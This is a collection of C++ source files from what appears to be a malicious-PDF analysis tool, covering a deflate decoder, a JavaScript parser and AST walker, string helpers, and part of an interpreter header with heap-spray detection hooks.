  bool final_block = false;
  while (!final_block) {
    final_block = in.read_bit() != 0;
    const std::uint32_t type = in.read_bits(2);
    switch (type) {
      case 0: {  // stored
        in.align_to_byte();
        const std::uint32_t len = in.read_bits(16);
        const std::uint32_t nlen = in.read_bits(16);
        if ((len ^ 0xffffu) != nlen) throw DecodeError("stored block LEN/NLEN mismatch");
        Bytes raw = in.read_aligned_bytes(len);
        out.append(raw.data(), raw.size());
        break;
      }
      case 1: {  // fixed Huffman
        // Intentionally immortal (never destroyed): a batch-scan worker
        // abandoned by the per-document watchdog may still be inflating
        // while the process exits, and must not race the exit-time
        // destructor of a function-local static. Stays reachable, so
        // leak checkers do not flag it.
        static const HuffmanDecoder* const lit =
            new HuffmanDecoder(fixed_literal_lengths());
        static const HuffmanDecoder* const dist =
            new HuffmanDecoder(fixed_distance_lengths());
        inflate_block(in, *lit, dist, out);
        break;
      }
      case 2:  // dynamic Huffman
        inflate_dynamic(in, out);
        break;
      default:
        throw DecodeError("reserved deflate block type");
    }
  }
  return out.take();
}

}  // namespace pdfshield::flate
