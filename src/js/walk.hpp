// Pre-order const traversal over the parsed AST. The parser bounds nesting
// at 256 levels, so plain recursion cannot overflow the stack even on
// attacker-authored scripts. Used by the static analyzer (src/jsstatic)
// for syntactic passes; the callbacks see every node exactly once,
// including function bodies.
#pragma once

#include "js/ast.hpp"

namespace pdfshield::js {

template <typename ExprFn, typename StmtFn>
void walk_stmt(const Stmt& stmt, ExprFn&& on_expr, StmtFn&& on_stmt);

template <typename ExprFn, typename StmtFn>
void walk_expr(const Expr& expr, ExprFn&& on_expr, StmtFn&& on_stmt) {
  on_expr(expr);
  if (expr.a) walk_expr(*expr.a, on_expr, on_stmt);
  if (expr.b) walk_expr(*expr.b, on_expr, on_stmt);
  if (expr.c) walk_expr(*expr.c, on_expr, on_stmt);
  for (const ExprPtr& arg : expr.args) {
    if (arg) walk_expr(*arg, on_expr, on_stmt);
  }
  for (const ObjectProperty& prop : expr.props) {
    if (prop.value) walk_expr(*prop.value, on_expr, on_stmt);
  }
  if (expr.function) {
    for (const StmtPtr& s : expr.function->body) {
      if (s) walk_stmt(*s, on_expr, on_stmt);
    }
  }
}

template <typename ExprFn, typename StmtFn>
void walk_stmt(const Stmt& stmt, ExprFn&& on_expr, StmtFn&& on_stmt) {
  on_stmt(stmt);
  if (stmt.expr) walk_expr(*stmt.expr, on_expr, on_stmt);
  if (stmt.expr2) walk_expr(*stmt.expr2, on_expr, on_stmt);
  if (stmt.expr3) walk_expr(*stmt.expr3, on_expr, on_stmt);
  for (const VarDeclarator& d : stmt.decls) {
    if (d.init) walk_expr(*d.init, on_expr, on_stmt);
  }
  if (stmt.function) {
    for (const StmtPtr& s : stmt.function->body) {
      if (s) walk_stmt(*s, on_expr, on_stmt);
    }
  }
  if (stmt.init) walk_stmt(*stmt.init, on_expr, on_stmt);
  if (stmt.alt) walk_stmt(*stmt.alt, on_expr, on_stmt);
  for (const StmtPtr& s : stmt.body) {
    if (s) walk_stmt(*s, on_expr, on_stmt);
  }
  for (const StmtPtr& s : stmt.catch_body) {
    if (s) walk_stmt(*s, on_expr, on_stmt);
  }
  for (const StmtPtr& s : stmt.finally_body) {
    if (s) walk_stmt(*s, on_expr, on_stmt);
  }
  for (const SwitchCase& c : stmt.cases) {
    if (c.test) walk_expr(*c.test, on_expr, on_stmt);
    for (const StmtPtr& s : c.body) {
      if (s) walk_stmt(*s, on_expr, on_stmt);
    }
  }
}

template <typename ExprFn, typename StmtFn>
void walk_program(const Program& program, ExprFn&& on_expr, StmtFn&& on_stmt) {
  for (const StmtPtr& s : program.body) {
    if (s) walk_stmt(*s, on_expr, on_stmt);
  }
}

}  // namespace pdfshield::js
