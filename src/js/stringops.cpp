#include "js/stringops.hpp"

#include <cctype>
#include <cmath>
#include <cstdio>

namespace pdfshield::js {

namespace {

int hex_digit(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

}  // namespace

std::string unescape_string(const std::string& s) {
  std::string out;
  out.reserve(s.size());
  std::size_t i = 0;
  while (i < s.size()) {
    if (s[i] == '%' && i + 5 < s.size() && (s[i + 1] == 'u' || s[i + 1] == 'U')) {
      int v = 0;
      bool ok = true;
      for (int k = 0; k < 4; ++k) {
        const int h = hex_digit(s[i + 2 + static_cast<std::size_t>(k)]);
        if (h < 0) {
          ok = false;
          break;
        }
        v = v * 16 + h;
      }
      if (ok) {
        // Little-endian layout mirrors how %uXXXX shellcode lands in the
        // process heap; single byte when it fits (keeps ASCII round-trips).
        append_char_code(out, v);
        i += 6;
        continue;
      }
    }
    if (s[i] == '%' && i + 2 < s.size()) {
      const int hi = hex_digit(s[i + 1]);
      const int lo = hex_digit(s[i + 2]);
      if (hi >= 0 && lo >= 0) {
        out.push_back(static_cast<char>((hi << 4) | lo));
        i += 3;
        continue;
      }
    }
    out.push_back(s[i++]);
  }
  return out;
}

std::string escape_string(const std::string& s) {
  static const char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (const char ch : s) {
    const unsigned char c = static_cast<unsigned char>(ch);
    if (std::isalnum(c) != 0 || c == '@' || c == '*' || c == '_' || c == '+' ||
        c == '-' || c == '.' || c == '/') {
      out.push_back(ch);
    } else {
      out.push_back('%');
      out.push_back(kHex[c >> 4]);
      out.push_back(kHex[c & 0xf]);
    }
  }
  return out;
}

void append_char_code(std::string& out, int code) {
  if (code < 256) {
    out.push_back(static_cast<char>(code & 0xff));
  } else {
    out.push_back(static_cast<char>(code & 0xff));
    out.push_back(static_cast<char>((code >> 8) & 0xff));
  }
}

std::string number_to_js_string(double d) {
  if (std::isnan(d)) return "NaN";
  if (std::isinf(d)) return d > 0 ? "Infinity" : "-Infinity";
  if (d == 0.0) return "0";
  if (d == static_cast<double>(static_cast<long long>(d)) && std::abs(d) < 1e15) {
    return std::to_string(static_cast<long long>(d));
  }
  char buf[40];
  std::snprintf(buf, sizeof(buf), "%.12g", d);
  return buf;
}

}  // namespace pdfshield::js
