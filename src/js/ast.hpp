// AST for the ECMAScript subset. Nodes are immutable after parsing;
// function bodies are shared (shared_ptr) between the parser output and
// closures created at runtime.
#pragma once

#include <memory>
#include <string>
#include <vector>

namespace pdfshield::js {

struct Expr;
struct Stmt;
using ExprPtr = std::unique_ptr<Expr>;
using StmtPtr = std::unique_ptr<Stmt>;

enum class ExprKind {
  kNumber,
  kString,
  kBool,
  kNull,
  kUndefined,
  kIdentifier,
  kThis,
  kArrayLiteral,
  kObjectLiteral,
  kFunction,      // function expression
  kMember,        // obj.name or obj[expr]
  kCall,
  kNew,
  kUnary,         // ! - + ~ typeof void delete
  kUpdate,        // ++ -- (prefix/postfix)
  kBinary,        // arithmetic/relational/bitwise
  kLogical,       // && ||
  kConditional,   // ?:
  kAssign,        // = += -= *= /= %= &= |= ^= <<= >>=
  kComma,
};

struct FunctionNode {
  std::string name;  ///< Empty for anonymous functions.
  std::vector<std::string> params;
  std::vector<StmtPtr> body;
};

struct ObjectProperty {
  std::string key;
  ExprPtr value;
};

struct Expr {
  ExprKind kind;

  /// Byte offset of the token this expression starts at (0-based into the
  /// script source). Static-analysis reports anchor sinks/caps to it.
  std::size_t offset = 0;

  // Literals.
  double number = 0;
  std::string string_value;  ///< string literal / identifier / member name
  bool bool_value = false;

  // Operators.
  std::string op;      ///< binary/unary/assign operator spelling
  bool prefix = true;  ///< for kUpdate

  // Children.
  ExprPtr a;  ///< object / callee / lhs / condition / operand
  ExprPtr b;  ///< rhs / computed member index / then-branch
  ExprPtr c;  ///< else-branch (kConditional)
  std::vector<ExprPtr> args;              ///< call args / array elements
  std::vector<ObjectProperty> props;      ///< object literal
  std::shared_ptr<FunctionNode> function; ///< kFunction

  bool computed_member = false;  ///< true for obj[expr]
};

enum class StmtKind {
  kExpr,
  kVarDecl,
  kFunctionDecl,
  kIf,
  kWhile,
  kDoWhile,
  kFor,
  kForIn,
  kReturn,
  kBreak,
  kContinue,
  kBlock,
  kTry,
  kThrow,
  kSwitch,
  kEmpty,
};

struct VarDeclarator {
  std::string name;
  ExprPtr init;  ///< May be null.
};

struct SwitchCase {
  ExprPtr test;  ///< Null for `default:`.
  std::vector<StmtPtr> body;
};

struct Stmt {
  StmtKind kind;

  ExprPtr expr;   ///< kExpr / kReturn value / kThrow value / conditions
  ExprPtr expr2;  ///< kFor condition
  ExprPtr expr3;  ///< kFor step

  std::vector<VarDeclarator> decls;        ///< kVarDecl
  std::shared_ptr<FunctionNode> function;  ///< kFunctionDecl
  std::vector<StmtPtr> body;               ///< kBlock / loop body (single entry)
  StmtPtr init;                            ///< kFor init statement
  StmtPtr alt;                             ///< kIf else-branch

  // kForIn
  std::string for_in_var;
  bool for_in_declares = false;

  // kTry
  std::string catch_param;
  std::vector<StmtPtr> catch_body;
  bool has_catch = false;
  std::vector<StmtPtr> finally_body;
  bool has_finally = false;

  std::vector<SwitchCase> cases;  ///< kSwitch
};

/// A parsed program (top-level statement list).
struct Program {
  std::vector<StmtPtr> body;
};

}  // namespace pdfshield::js
