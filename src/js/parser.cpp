#include "js/parser.hpp"

#include <array>

#include "js/lexer.hpp"
#include "support/error.hpp"

namespace pdfshield::js {

using support::ParseError;

namespace {

class Parser {
 public:
  explicit Parser(std::vector<JsToken> tokens) : toks_(std::move(tokens)) {}

  std::shared_ptr<Program> parse_program() {
    auto prog = std::make_shared<Program>();
    while (!at_eof()) prog->body.push_back(parse_statement());
    return prog;
  }

 private:
  // --- token helpers -------------------------------------------------------

  const JsToken& cur() const { return toks_[pos_]; }
  const JsToken& ahead(std::size_t n = 1) const {
    return toks_[std::min(pos_ + n, toks_.size() - 1)];
  }
  bool at_eof() const { return cur().kind == JsTokenKind::kEof; }

  [[noreturn]] void fail(const std::string& msg) const {
    throw ParseError(msg + " at line " + std::to_string(cur().line) +
                     ", offset " + std::to_string(cur().offset));
  }

  const JsToken& advance() { return toks_[pos_++]; }

  bool is_punct(std::string_view p) const {
    return cur().kind == JsTokenKind::kPunct && cur().text == p;
  }
  bool is_keyword(std::string_view k) const {
    return cur().kind == JsTokenKind::kKeyword && cur().text == k;
  }

  bool eat_punct(std::string_view p) {
    if (!is_punct(p)) return false;
    ++pos_;
    return true;
  }
  bool eat_keyword(std::string_view k) {
    if (!is_keyword(k)) return false;
    ++pos_;
    return true;
  }

  void expect_punct(std::string_view p) {
    if (!eat_punct(p)) fail("expected '" + std::string(p) + "'");
  }

  /// Consumes a statement-terminating semicolon, tolerating ASI before
  /// `}`/EOF and at line breaks.
  void expect_semicolon() {
    if (eat_punct(";")) return;
    if (is_punct("}") || at_eof()) return;
    if (pos_ > 0 && toks_[pos_ - 1].line < cur().line) return;  // ASI
    fail("expected ';'");
  }

  std::string expect_identifier(const char* what) {
    if (cur().kind != JsTokenKind::kIdentifier) fail(std::string("expected ") + what);
    return advance().text;
  }

  // --- statements ----------------------------------------------------------

  StmtPtr parse_statement() {
    DepthGuard guard(*this);
    if (is_punct("{")) return parse_block();
    if (is_punct(";")) {
      advance();
      auto s = std::make_unique<Stmt>();
      s->kind = StmtKind::kEmpty;
      return s;
    }
    if (is_keyword("var") || is_keyword("let") || is_keyword("const")) {
      auto s = parse_var_decl();
      expect_semicolon();
      return s;
    }
    if (is_keyword("function")) return parse_function_decl();
    if (is_keyword("if")) return parse_if();
    if (is_keyword("while")) return parse_while();
    if (is_keyword("do")) return parse_do_while();
    if (is_keyword("for")) return parse_for();
    if (is_keyword("return")) return parse_return();
    if (is_keyword("break") || is_keyword("continue")) {
      auto s = std::make_unique<Stmt>();
      s->kind = cur().text == "break" ? StmtKind::kBreak : StmtKind::kContinue;
      advance();
      expect_semicolon();
      return s;
    }
    if (is_keyword("try")) return parse_try();
    if (is_keyword("throw")) {
      advance();
      auto s = std::make_unique<Stmt>();
      s->kind = StmtKind::kThrow;
      s->expr = parse_expression();
      expect_semicolon();
      return s;
    }
    if (is_keyword("switch")) return parse_switch();

    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kExpr;
    s->expr = parse_expression();
    expect_semicolon();
    return s;
  }

  StmtPtr parse_block() {
    expect_punct("{");
    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kBlock;
    while (!is_punct("}")) {
      if (at_eof()) fail("unterminated block");
      s->body.push_back(parse_statement());
    }
    advance();
    return s;
  }

  StmtPtr parse_var_decl() {
    advance();  // var/let/const — all treated as function-scoped var
    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kVarDecl;
    while (true) {
      VarDeclarator d;
      d.name = expect_identifier("variable name");
      if (eat_punct("=")) d.init = parse_assignment();
      s->decls.push_back(std::move(d));
      if (!eat_punct(",")) break;
    }
    return s;
  }

  std::shared_ptr<FunctionNode> parse_function_rest(bool require_name) {
    auto fn = std::make_shared<FunctionNode>();
    if (cur().kind == JsTokenKind::kIdentifier) {
      fn->name = advance().text;
    } else if (require_name) {
      fail("expected function name");
    }
    expect_punct("(");
    if (!is_punct(")")) {
      while (true) {
        fn->params.push_back(expect_identifier("parameter name"));
        if (!eat_punct(",")) break;
      }
    }
    expect_punct(")");
    expect_punct("{");
    while (!is_punct("}")) {
      if (at_eof()) fail("unterminated function body");
      fn->body.push_back(parse_statement());
    }
    advance();
    return fn;
  }

  StmtPtr parse_function_decl() {
    advance();  // function
    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kFunctionDecl;
    s->function = parse_function_rest(/*require_name=*/true);
    return s;
  }

  StmtPtr parse_if() {
    advance();
    expect_punct("(");
    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kIf;
    s->expr = parse_expression();
    expect_punct(")");
    s->body.push_back(parse_statement());
    if (eat_keyword("else")) s->alt = parse_statement();
    return s;
  }

  StmtPtr parse_while() {
    advance();
    expect_punct("(");
    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kWhile;
    s->expr = parse_expression();
    expect_punct(")");
    s->body.push_back(parse_statement());
    return s;
  }

  StmtPtr parse_do_while() {
    advance();
    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kDoWhile;
    s->body.push_back(parse_statement());
    if (!eat_keyword("while")) fail("expected 'while' after do-body");
    expect_punct("(");
    s->expr = parse_expression();
    expect_punct(")");
    expect_semicolon();
    return s;
  }

  StmtPtr parse_for() {
    advance();
    expect_punct("(");

    // for (var x in obj) / for (x in obj)
    const bool var_form = is_keyword("var") || is_keyword("let") || is_keyword("const");
    if (var_form && ahead().kind == JsTokenKind::kIdentifier &&
        ahead(2).kind == JsTokenKind::kKeyword && ahead(2).text == "in") {
      advance();
      auto s = std::make_unique<Stmt>();
      s->kind = StmtKind::kForIn;
      s->for_in_declares = true;
      s->for_in_var = advance().text;
      advance();  // in
      s->expr = parse_expression();
      expect_punct(")");
      s->body.push_back(parse_statement());
      return s;
    }
    if (cur().kind == JsTokenKind::kIdentifier &&
        ahead().kind == JsTokenKind::kKeyword && ahead().text == "in") {
      auto s = std::make_unique<Stmt>();
      s->kind = StmtKind::kForIn;
      s->for_in_var = advance().text;
      advance();  // in
      s->expr = parse_expression();
      expect_punct(")");
      s->body.push_back(parse_statement());
      return s;
    }

    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kFor;
    if (!is_punct(";")) {
      if (var_form) {
        s->init = parse_var_decl();
      } else {
        s->init = std::make_unique<Stmt>();
        s->init->kind = StmtKind::kExpr;
        s->init->expr = parse_expression();
      }
    }
    expect_punct(";");
    if (!is_punct(";")) s->expr2 = parse_expression();
    expect_punct(";");
    if (!is_punct(")")) s->expr3 = parse_expression();
    expect_punct(")");
    s->body.push_back(parse_statement());
    return s;
  }

  StmtPtr parse_return() {
    advance();
    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kReturn;
    if (!is_punct(";") && !is_punct("}") && !at_eof() &&
        toks_[pos_ - 1].line == cur().line) {
      s->expr = parse_expression();
    }
    expect_semicolon();
    return s;
  }

  StmtPtr parse_try() {
    advance();
    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kTry;
    StmtPtr block = parse_block();
    s->body = std::move(block->body);
    if (eat_keyword("catch")) {
      s->has_catch = true;
      if (eat_punct("(")) {
        s->catch_param = expect_identifier("catch parameter");
        expect_punct(")");
      }
      StmtPtr cb = parse_block();
      s->catch_body = std::move(cb->body);
    }
    if (eat_keyword("finally")) {
      s->has_finally = true;
      StmtPtr fb = parse_block();
      s->finally_body = std::move(fb->body);
    }
    if (!s->has_catch && !s->has_finally) fail("try without catch or finally");
    return s;
  }

  StmtPtr parse_switch() {
    advance();
    expect_punct("(");
    auto s = std::make_unique<Stmt>();
    s->kind = StmtKind::kSwitch;
    s->expr = parse_expression();
    expect_punct(")");
    expect_punct("{");
    while (!is_punct("}")) {
      if (at_eof()) fail("unterminated switch");
      SwitchCase sc;
      if (eat_keyword("case")) {
        sc.test = parse_expression();
      } else if (!eat_keyword("default")) {
        fail("expected 'case' or 'default'");
      }
      expect_punct(":");
      while (!is_punct("}") && !is_keyword("case") && !is_keyword("default")) {
        if (at_eof()) fail("unterminated switch");
        sc.body.push_back(parse_statement());
      }
      s->cases.push_back(std::move(sc));
    }
    advance();
    return s;
  }

  // --- expressions ---------------------------------------------------------

  ExprPtr parse_expression() {
    ExprPtr e = parse_assignment();
    while (is_punct(",")) {
      advance();
      auto comma = std::make_unique<Expr>();
      comma->kind = ExprKind::kComma;
      comma->offset = e->offset;
      comma->a = std::move(e);
      comma->b = parse_assignment();
      e = std::move(comma);
    }
    return e;
  }

  ExprPtr parse_assignment() {
    ExprPtr lhs = parse_conditional();
    static const std::array<std::string_view, 12> kAssignOps = {
        "=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<=", ">>=", ">>>="};
    for (auto op : kAssignOps) {
      if (is_punct(op)) {
        if (lhs->kind != ExprKind::kIdentifier && lhs->kind != ExprKind::kMember) {
          fail("invalid assignment target");
        }
        advance();
        auto e = std::make_unique<Expr>();
        e->kind = ExprKind::kAssign;
        e->op = op;
        e->offset = lhs->offset;
        e->a = std::move(lhs);
        e->b = parse_assignment();
        return e;
      }
    }
    return lhs;
  }

  ExprPtr parse_conditional() {
    ExprPtr cond = parse_binary(0);
    if (!is_punct("?")) return cond;
    advance();
    auto e = std::make_unique<Expr>();
    e->kind = ExprKind::kConditional;
    e->offset = cond->offset;
    e->a = std::move(cond);
    e->b = parse_assignment();
    expect_punct(":");
    e->c = parse_assignment();
    return e;
  }

  struct OpInfo {
    std::string_view op;
    int prec;
    bool logical;
    bool keyword;
  };

  const OpInfo* peek_binary_op() const {
    static const std::array<OpInfo, 22> kOps = {{
        {"||", 1, true, false},  {"&&", 2, true, false},
        {"|", 3, false, false},  {"^", 4, false, false},
        {"&", 5, false, false},  {"==", 6, false, false},
        {"!=", 6, false, false}, {"===", 6, false, false},
        {"!==", 6, false, false},
        {"<", 7, false, false},  {">", 7, false, false},
        {"<=", 7, false, false}, {">=", 7, false, false},
        {"in", 7, false, true},  {"instanceof", 7, false, true},
        {"<<", 8, false, false}, {">>", 8, false, false},
        {">>>", 8, false, false},
        {"+", 9, false, false},  {"-", 9, false, false},
        {"*", 10, false, false}, {"/", 10, false, false},
    }};
    static const OpInfo kMod = {"%", 10, false, false};
    if (is_punct("%")) return &kMod;
    for (const auto& info : kOps) {
      if (info.keyword ? is_keyword(info.op) : is_punct(info.op)) return &info;
    }
    return nullptr;
  }

  ExprPtr parse_binary(int min_prec) {
    ExprPtr lhs = parse_unary();
    while (true) {
      const OpInfo* info = peek_binary_op();
      if (!info || info->prec < min_prec) return lhs;
      advance();
      ExprPtr rhs = parse_binary(info->prec + 1);
      auto e = std::make_unique<Expr>();
      e->kind = info->logical ? ExprKind::kLogical : ExprKind::kBinary;
      e->op = info->op;
      e->offset = lhs->offset;
      e->a = std::move(lhs);
      e->b = std::move(rhs);
      lhs = std::move(e);
    }
  }

  ExprPtr parse_unary() {
    // Every nesting level of an expression — parenthesized, call, unary
    // chain, chained assignment — descends through here, so this single
    // guard bounds all expression recursion.
    DepthGuard guard(*this);
    const std::size_t off = cur().offset;
    static const std::array<std::string_view, 5> kUnaryPuncts = {"!", "-", "+", "~"};
    for (auto op : kUnaryPuncts) {
      if (!op.empty() && is_punct(op)) {
        advance();
        auto e = std::make_unique<Expr>();
        e->kind = ExprKind::kUnary;
        e->op = op;
        e->offset = off;
        e->a = parse_unary();
        return e;
      }
    }
    if (is_keyword("typeof") || is_keyword("void") || is_keyword("delete")) {
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kUnary;
      e->op = advance().text;
      e->offset = off;
      e->a = parse_unary();
      return e;
    }
    if (is_punct("++") || is_punct("--")) {
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kUpdate;
      e->op = advance().text;
      e->prefix = true;
      e->offset = off;
      e->a = parse_unary();
      return e;
    }
    return parse_postfix();
  }

  ExprPtr parse_postfix() {
    ExprPtr e = parse_call_member(parse_primary());
    if (is_punct("++") || is_punct("--")) {
      // No-line-terminator rule is ignored: fine for our corpus.
      auto u = std::make_unique<Expr>();
      u->kind = ExprKind::kUpdate;
      u->op = advance().text;
      u->prefix = false;
      u->offset = e->offset;
      u->a = std::move(e);
      return u;
    }
    return e;
  }

  ExprPtr parse_call_member(ExprPtr base) {
    while (true) {
      if (eat_punct(".")) {
        auto e = std::make_unique<Expr>();
        e->kind = ExprKind::kMember;
        e->offset = base->offset;
        e->a = std::move(base);
        // Allow keywords as property names (x.in, x.delete appear in APIs).
        if (cur().kind != JsTokenKind::kIdentifier &&
            cur().kind != JsTokenKind::kKeyword) {
          fail("expected property name");
        }
        e->string_value = advance().text;
        base = std::move(e);
        continue;
      }
      if (is_punct("[")) {
        advance();
        auto e = std::make_unique<Expr>();
        e->kind = ExprKind::kMember;
        e->computed_member = true;
        e->offset = base->offset;
        e->a = std::move(base);
        e->b = parse_expression();
        expect_punct("]");
        base = std::move(e);
        continue;
      }
      if (is_punct("(")) {
        auto e = std::make_unique<Expr>();
        e->kind = ExprKind::kCall;
        e->offset = base->offset;
        e->a = std::move(base);
        e->args = parse_arguments();
        base = std::move(e);
        continue;
      }
      return base;
    }
  }

  std::vector<ExprPtr> parse_arguments() {
    expect_punct("(");
    std::vector<ExprPtr> args;
    if (!is_punct(")")) {
      while (true) {
        args.push_back(parse_assignment());
        if (!eat_punct(",")) break;
      }
    }
    expect_punct(")");
    return args;
  }

  ExprPtr parse_primary() {
    const JsToken& t = cur();
    switch (t.kind) {
      case JsTokenKind::kNumber: {
        auto e = std::make_unique<Expr>();
        e->kind = ExprKind::kNumber;
        e->number = t.number;
        e->offset = t.offset;
        advance();
        return e;
      }
      case JsTokenKind::kString: {
        auto e = std::make_unique<Expr>();
        e->kind = ExprKind::kString;
        e->string_value = t.text;
        e->offset = t.offset;
        advance();
        return e;
      }
      case JsTokenKind::kIdentifier: {
        auto e = std::make_unique<Expr>();
        e->kind = ExprKind::kIdentifier;
        e->string_value = t.text;
        e->offset = t.offset;
        advance();
        return e;
      }
      case JsTokenKind::kKeyword: {
        if (t.text == "true" || t.text == "false") {
          auto e = std::make_unique<Expr>();
          e->kind = ExprKind::kBool;
          e->bool_value = t.text == "true";
          e->offset = t.offset;
          advance();
          return e;
        }
        if (t.text == "null") {
          advance();
          auto e = std::make_unique<Expr>();
          e->kind = ExprKind::kNull;
          e->offset = t.offset;
          return e;
        }
        if (t.text == "undefined") {
          advance();
          auto e = std::make_unique<Expr>();
          e->kind = ExprKind::kUndefined;
          e->offset = t.offset;
          return e;
        }
        if (t.text == "this") {
          advance();
          auto e = std::make_unique<Expr>();
          e->kind = ExprKind::kThis;
          e->offset = t.offset;
          return e;
        }
        if (t.text == "function") {
          advance();
          auto e = std::make_unique<Expr>();
          e->kind = ExprKind::kFunction;
          e->offset = t.offset;
          e->function = parse_function_rest(/*require_name=*/false);
          return e;
        }
        if (t.text == "new") {
          advance();
          auto e = std::make_unique<Expr>();
          e->kind = ExprKind::kNew;
          e->offset = t.offset;
          // new Callee(args): member access binds tighter than the call.
          ExprPtr callee = parse_primary();
          while (true) {
            if (eat_punct(".")) {
              auto m = std::make_unique<Expr>();
              m->kind = ExprKind::kMember;
              m->offset = callee->offset;
              m->a = std::move(callee);
              if (cur().kind != JsTokenKind::kIdentifier &&
                  cur().kind != JsTokenKind::kKeyword) {
                fail("expected property name");
              }
              m->string_value = advance().text;
              callee = std::move(m);
              continue;
            }
            break;
          }
          e->a = std::move(callee);
          if (is_punct("(")) e->args = parse_arguments();
          return e;
        }
        fail("unexpected keyword '" + t.text + "'");
      }
      case JsTokenKind::kPunct: {
        if (t.text == "(") {
          advance();
          ExprPtr e = parse_expression();
          expect_punct(")");
          return e;
        }
        if (t.text == "[") {
          advance();
          auto e = std::make_unique<Expr>();
          e->kind = ExprKind::kArrayLiteral;
          e->offset = t.offset;
          if (!is_punct("]")) {
            while (true) {
              e->args.push_back(parse_assignment());
              if (!eat_punct(",")) break;
              if (is_punct("]")) break;  // trailing comma
            }
          }
          expect_punct("]");
          return e;
        }
        if (t.text == "{") {
          advance();
          auto e = std::make_unique<Expr>();
          e->kind = ExprKind::kObjectLiteral;
          e->offset = t.offset;
          if (!is_punct("}")) {
            while (true) {
              ObjectProperty p;
              if (cur().kind == JsTokenKind::kIdentifier ||
                  cur().kind == JsTokenKind::kKeyword) {
                p.key = advance().text;
              } else if (cur().kind == JsTokenKind::kString) {
                p.key = advance().text;
              } else if (cur().kind == JsTokenKind::kNumber) {
                p.key = advance().text;
              } else {
                fail("expected property key");
              }
              expect_punct(":");
              p.value = parse_assignment();
              e->props.push_back(std::move(p));
              if (!eat_punct(",")) break;
              if (is_punct("}")) break;  // trailing comma
            }
          }
          expect_punct("}");
          return e;
        }
        fail("unexpected token '" + t.text + "'");
      }
      default:
        fail("unexpected end of input");
    }
  }

  // Pathological nesting must raise ParseError, not overflow the stack
  // (a malicious document controls this input). 256 levels is far beyond
  // any real script and well inside the stack even with sanitizer-sized
  // frames.
  static constexpr int kMaxDepth = 256;

  struct DepthGuard {
    explicit DepthGuard(Parser& p) : parser(p) {
      if (++parser.depth_ > kMaxDepth) parser.fail("nesting too deep");
    }
    ~DepthGuard() { --parser.depth_; }
    Parser& parser;
  };

  std::vector<JsToken> toks_;
  std::size_t pos_ = 0;
  int depth_ = 0;
};

}  // namespace

std::shared_ptr<Program> parse_js(std::string_view source) {
  Parser parser(tokenize_js(source));
  return parser.parse_program();
}

}  // namespace pdfshield::js
