// Tree-walking interpreter for the ECMAScript subset, with the hooks the
// detection pipeline needs:
//   * allocation accounting  — heap-spray detection measures Javascript
//     memory pressure (paper §III-D "Suspicious Memory Consumption");
//   * large-string capture   — the reader simulator scans sprayed strings
//     for shellcode when an exploit fires;
//   * step limit             — runaway scripts terminate deterministically.
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "js/ast.hpp"
#include "js/value.hpp"
#include "support/rng.hpp"

namespace pdfshield::js {

/// Lexical scope: name -> value map with a parent chain. A scope is either
/// a *function* scope (global scope, function-call activation) or a block
/// scope; `var` declarations hoist to the nearest function scope.
class Environment : public std::enable_shared_from_this<Environment> {
 public:
  explicit Environment(std::shared_ptr<Environment> parent = nullptr,
                       bool function_scope = false)
      : parent_(std::move(parent)),
        function_scope_(function_scope || !parent_) {}

  void define(const std::string& name, Value v) { vars_[name] = std::move(v); }

  /// `var` semantics: defines on the nearest function (or global) scope.
  void define_var(const std::string& name, Value v);

  /// Finds the binding in this scope or an ancestor; nullptr if undeclared.
  Value* lookup(const std::string& name);

  /// Assigns to the nearest declaration, or defines on the global scope
  /// (sloppy-mode implicit global) when undeclared.
  void assign(const std::string& name, Value v);

  Environment* global();

  /// Drops all bindings and the parent link. Called by ~Interpreter to break
  /// the shared_ptr cycles closures create (a function object stored in a
  /// scope whose UserFunction::closure points back at that scope); after the
  /// sweep the environment graph is acyclic and frees normally.
  void clear_for_teardown() {
    vars_.clear();
    parent_.reset();
  }

 private:
  std::map<std::string, Value> vars_;
  std::shared_ptr<Environment> parent_;
  bool function_scope_;
};

class Interpreter {
 public:
  Interpreter();

  /// Sweeps every environment this interpreter created, clearing bindings
  /// and parent links so closure-induced shared_ptr cycles cannot leak.
  ~Interpreter();

  /// The global scope (pre-populated with builtins).
  const std::shared_ptr<Environment>& globals() { return global_env_; }

  /// Sets the value of `this` at top level (Acrobat binds it to the Doc).
  void set_global_this(Value v) { this_stack_.front() = std::move(v); }
  void set_global(const std::string& name, Value v) {
    global_env_->define(name, std::move(v));
  }

  /// Parses and runs a script at global scope. Script-level `throw`s that
  /// escape surface as JsException; host faults as JsError.
  Value run_source(std::string_view source);

  /// Runs an already-parsed program at global scope.
  Value run(const Program& program);

  /// `eval` semantics: runs in the *current* scope (callers of builtins).
  Value eval_in_current_scope(std::string_view source);

  /// Invokes a function value with explicit this/args.
  Value call_function(const Value& fn, const Value& this_value,
                      const std::vector<Value>& args);

  // --- conversions (ES5-ish semantics, enough for the corpus) -------------
  static bool to_boolean(const Value& v);
  static double to_number(const Value& v);
  std::string to_js_string(const Value& v);
  static bool strict_equals(const Value& a, const Value& b);
  bool loose_equals(const Value& a, const Value& b);

  /// Creates a string value, metering the allocation.
  Value make_string(std::string s);

  // --- instrumentation hooks ----------------------------------------------
  /// Called on every metered string/array allocation with its byte size.
  std::function<void(std::size_t)> on_alloc;
  /// Called when a single string of >= large_string_threshold bytes is
  /// created (heap-spray payload capture).
  std::function<void(const std::string&)> on_large_string;
  /// Called with the source string of every `eval(string)` the engine
  /// actually evaluates (before evaluation). The jsstatic differential
  /// test compares these against statically resolved sink arguments.
  std::function<void(const std::string&)> on_eval;
